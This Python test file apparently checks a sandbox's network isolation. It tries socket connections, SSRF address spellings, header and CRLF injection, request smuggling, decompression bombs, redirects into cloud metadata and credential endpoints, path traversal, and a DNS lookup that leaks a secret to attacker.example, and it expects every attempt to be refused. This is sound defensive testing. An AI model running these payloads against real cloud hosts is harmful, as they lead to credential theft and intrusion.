"""No sockets, and no way to an address that is not public: the metadata service, Lambda's runtime, this machine."""

import socket

from tests.escape.attempts import Answers, Attempt, Expected, Fails, Stage, rows
from tests.escape.hostile_server import FORBIDDEN, ORIGIN

SOCKET = "import asyncio.base_events\nsocket = asyncio.base_events.socket\n"
"""Taken out of sys.modules when the guest was built, and still held by asyncio."""

DENIED = Fails(901, "PermissionError", "Permission denied")
NO_NAMES = Fails(901, "gaierror", "Non-recoverable error")
NO_SOCKETS = Fails(901, "NotImplementedError", "There are no sockets")
NO_MODULE = Fails(901, "ModuleNotFoundError", "There are no sockets")

RAW = [
    Attempt("the module", "import socket", NO_MODULE),
    Attempt("the module below it", "import _socket", NO_MODULE),
    Attempt("TLS", "import ssl", NO_MODULE),
    Attempt("TCP to the metadata service", SOCKET + "socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect(('169.254.169.254', 80))", DENIED),
    Attempt("TCP to the runtime of Lambda", SOCKET + "socket.create_connection(('127.0.0.1', 9001), 1)", NO_NAMES),
    Attempt("TCP over IPv6", SOCKET + "socket.socket(socket.AF_INET6, socket.SOCK_STREAM).connect(('::1', 9001))", DENIED),
    Attempt("UDP", SOCKET + "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 53))", DENIED),
    Attempt("a server", SOCKET + "socket.create_server(('0.0.0.0', 8080))", DENIED),
    Attempt("a pair of sockets", SOCKET + "socket.socketpair()", DENIED),
    Attempt("every kind of socket", SOCKET + """
made = []
for family in range(50):
    for kind in range(12):
        for protocol in (0, 1, 6, 17, 255):
            try: made.append(repr(socket.socket(family, kind, protocol)))
            except OSError: pass
return made
""", Answers([])),
    Attempt("a descriptor that is a socket", SOCKET + """
found = []
for descriptor in range(1000):
    try: found.append(repr(socket.socket(fileno=descriptor)))
    except OSError: pass
return found
""", Answers([])),
    Attempt("a secret in a name lookup", SOCKET + "socket.getaddrinfo('secret.attacker.example', None)", NO_NAMES),
    Attempt("the lookup of an address", SOCKET + "socket.getaddrinfo('127.0.0.1', 80)", NO_NAMES),
    Attempt("sockets made anew from the interpreter", """
        import _imp, types
        fresh = _imp.create_builtin(types.SimpleNamespace(name='_socket', origin='built-in'))
        _imp.exec_builtin(fresh)
        fresh.socket(fresh.AF_INET, fresh.SOCK_STREAM, 0)
        """, DENIED),
    Attempt("sockets with the guard taken away", """
        sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != 'HiddenModules']
        import _socket
        _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM, 0)
        """, DENIED),
    Attempt("a connection of asyncio", "await asyncio.open_connection('127.0.0.1', 9001)", NO_SOCKETS),
    Attempt("a server of asyncio", "await asyncio.start_server(print, '0.0.0.0', 8080)", NO_SOCKETS),
    Attempt("a loop of asyncio's own", "asyncio.SelectorEventLoop()", DENIED),
    Attempt("a descriptor in asyncio's loop", "asyncio.get_running_loop().add_reader(0, print)\nawait asyncio.sleep(0)", Fails(901, "NotImplementedError")),
    Attempt("the log to a socket", "import logging.handlers as h; h.SocketHandler('127.0.0.1', 9001).makeSocket()", NO_NAMES),
    Attempt("the log to the system", "import logging.handlers as h; h.SysLogHandler(('127.0.0.1', 514))", NO_NAMES),
    Attempt("the log over HTTP", "import logging.handlers as h; h.HTTPHandler('127.0.0.1:9001', '/').getConnection('127.0.0.1:9001', False)",
            Fails(901, "ModuleNotFoundError")),
    Attempt("a robots file", "import urllib.robotparser as r; r.RobotFileParser('http://169.254.169.254/').read()", Fails(901, "AttributeError")),
]  # fmt: skip

# name: (what is called, the exception, words)
ADDRESSES: dict[str, tuple[str, str, str]] = {
    "the metadata service": ("http://169.254.169.254/latest/meta-data/", "HttpBlocked", "link-local"),
    "the metadata service over IPv6": ("http://[fd00:ec2::254]/latest/meta-data/", "HttpBlocked", "unique local"),
    "the credentials of a container": ("http://169.254.170.2/v2/credentials", "HttpBlocked", "link-local"),
    "the credentials of a pod": ("http://169.254.170.23/v1/credentials", "HttpBlocked", "link-local"),
    "the time and names of AWS": ("http://169.254.169.253/", "HttpBlocked", "link-local"),
    "the runtime of Lambda": ("http://127.0.0.1:9001/2018-06-01/runtime/invocation/next", "HttpBlocked", "loopback"),
    "the runtime of Lambda elsewhere": ("http://169.254.100.1:9001/2018-06-01/runtime/init/error", "HttpBlocked", "link-local"),
    "the extensions of Lambda": ("http://127.0.0.1:9001/2020-01-01/extension/register", "HttpBlocked", "loopback"),
    "the tracing of Lambda": ("http://169.254.79.129:2000/", "HttpBlocked", "link-local"),
    "the metadata of Google by its address": ("http://169.254.169.254/computeMetadata/v1/", "HttpBlocked", "link-local"),
    "a mapped address": ("http://[::ffff:169.254.169.254]/", "HttpBlocked", "IPv4-mapped"),
    "a mapped address in hexadecimal": ("http://[::ffff:a9fe:a9fe]/", "HttpBlocked", "IPv4-mapped"),
    "a translated address": ("http://[64:ff9b::a9fe:a9fe]/", "HttpBlocked", "NAT64"),
    "an address with a zone": ("http://[fe80::1%25eth0]/", "HttpError", "no valid host name"),
    "an address as one number": ("http://2852039166/", "HttpBlocked", "odd spelling"),
    "an address in hexadecimal": ("http://0xA9FEA9FE/", "HttpBlocked", "odd spelling"),
    "an address in octal": ("http://0251.0376.0251.0376/", "HttpError", "not a URL"),
    "an address of two numbers": ("http://169.16689662/", "HttpBlocked", "odd spelling"),
    "an address in circled digits": ("http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/", "HttpError", "not a URL"),
    "an address with other full stops": ("http://169。254。169。254/", "HttpBlocked", "link-local"),
    "an address with a final dot": ("http://169.254.169.254./", "HttpBlocked", "link-local"),
    "a short address": ("http://127.1:9001/", "HttpBlocked", "odd spelling"),
    "no address": ("http://0.0.0.0:9001/", "HttpBlocked", "unspecified"),
    "no address of IPv6": ("http://[::]:9001/", "HttpBlocked", "unspecified"),
    "this machine by name": ("http://localhost:9001/", "HttpBlocked", "loopback"),
    "this machine by its own name": (f"http://{socket.gethostname()}:9001/", "HttpBlocked", "not a public address"),
    "a user name before the address": ("http://friend.example@169.254.169.254/", "HttpError", "user name"),
    "an address before a backslash": ("http://169.254.169.254\\@friend.example/", "HttpError", ""),
    "another scheme": ("file:///etc/passwd", "HttpBlocked", "http and https addresses only"),
    "an old scheme": ("gopher://127.0.0.1:9001/_GET", "HttpBlocked", "http and https addresses only"),
    "a socket of Docker": ("unix:///var/run/docker.sock", "HttpBlocked", "http and https addresses only"),
    "a line break in the address": ("http://friend.example/a\r\nHost: 169.254.169.254", "HttpError", ""),
}  # fmt: skip

# name: (arguments, the exception, words)
REQUESTS: dict[str, tuple[str, str, str]] = {
    "another host in the headers": ("'GET', 'ORIGIN/hello', headers={'Host': '169.254.169.254'}", "HttpError", "set by Relive"),
    "another length": ("'POST', 'ORIGIN/hello', body='GET / HTTP/1.1', headers={'content-length': '0'}", "HttpError", "set by Relive"),
    "chunks": ("'POST', 'ORIGIN/hello', body='0', headers={'Transfer-Encoding': 'chunked'}", "HttpError", "set by Relive"),
    "a depth of one's own": ("'GET', 'ORIGIN/hello', headers={'X-Relive-Depth': '0'}", "HttpError", "set by Relive"),
    "a header with a line break": ("'GET', 'ORIGIN/hello', headers={'A': 'b\\r\\nHost: c'}", "HttpError", "line breaks"),
    "a header name with a line break": ("'GET', 'ORIGIN/hello', headers={'A: b\\r\\nC': 'd'}", "HttpError", "not a header name"),
    "a method with a line break": ("'GET / HTTP/1.1\\r\\nX:', 'ORIGIN/hello'", "HttpError", "must be a word"),
    "a tunnel": ("'CONNECT', 'ORIGIN/hello'", "HttpError", "cannot be used"),
    "two redirects too many": ("'GET', 'ORIGIN/in-a-circle'", "HttpError", "more than 5 redirects"),
    "a redirect with the body": ("'POST', 'ORIGIN/repeats-the-body', body='secret'", "HttpBlocked", "link-local"),
    "a bomb": ("'GET', 'ORIGIN/bomb'", "HttpError", "larger than 6 MB"),
    "a deflated bomb": ("'GET', 'ORIGIN/bomb-deflated'", "HttpError", "larger than 6 MB"),
    "an answer with two lengths": ("'GET', 'ORIGIN/two-lengths'", "HttpError", "no valid HTTP answer"),
    "an answer whose head never ends": ("'GET', 'ORIGIN/endless-head'", "HttpError", "no valid HTTP answer"),
    "a redirect into the metadata service": ("'GET', 'ORIGIN/to/metadata'", "HttpBlocked", "link-local"),
    "a redirect to credentials": ("'GET', 'ORIGIN/to/credentials'", "HttpBlocked", "link-local"),
    "a redirect into the runtime": ("'GET', 'ORIGIN/to/runtime'", "HttpBlocked", "loopback"),
    "a redirect to a file": ("'GET', 'ORIGIN/to/file'", "HttpBlocked", "http and https addresses only"),
    "a redirect to one number": ("'GET', 'ORIGIN/to/decimal'", "HttpBlocked", "odd spelling"),
    "a redirect without a scheme": ("'GET', 'ORIGIN/to/protocol-relative'", "HttpBlocked", "link-local"),
    "a redirect with a user name": ("'GET', 'ORIGIN/to/user-info'", "HttpError", "user name"),
}  # fmt: skip


def refused(kind: str, words: str) -> Expected:
    return Fails(901, kind, words)


ATTEMPTS = [
    *RAW,
    *(Attempt(name, f"return http.get({url!r}).status", refused(*how)) for name, (url, *how) in ADDRESSES.items()),
    *(
        Attempt(name, f"return http.request({arguments.replace('ORIGIN', ORIGIN)}).status", refused(*how))
        for name, (arguments, *how) in REQUESTS.items()
    ),
    Attempt("a bomb inside a bomb, one of which is undone", f"return len(http.get('{ORIGIN}/bomb-in-a-bomb').body) < 1_000_000", Answers(True)),
    Attempt("an address behind the guest's own http", """
        import wit_world
        asked = {'method': 'GET', 'url': 'http://169.254.169.254/', 'public_only': False, 'stand_in': True}
        wit_world.start('http.request', json.dumps(asked))
        return json.loads(wit_world.wait(None)[1])['error']['kind']
        """, Answers("HttpError")),
    Attempt("the neighbour's closed function through the own API", """
        address = request.api_url.replace('/mallory', '/alice') + '/Functions/closed'
        return http.get(address, headers={'Authorization': 'MasterKey guessed'}).status, http.get(address).status
        """, Answers([401, 403])),
    Attempt("out of the own API by dots", """
        tried = ('/../alice/Functions/closed', '/%2e%2e/alice/Functions/closed', '/..%2falice/Functions/closed', '//alice/Functions/closed')
        return [http.get(request.api_url + path).status for path in tried]
        """, Answers([403, 404, 404, 404])),
]  # fmt: skip


@rows(ATTEMPTS)
def test_attempt(stage: Stage, attempt: Attempt) -> None:
    stage.carry_out(attempt)


def test_redirects_are_all_tried() -> None:
    assert all(any(f"/to/{name}'" in arguments for arguments, *_ in REQUESTS.values()) for name in FORBIDDEN)
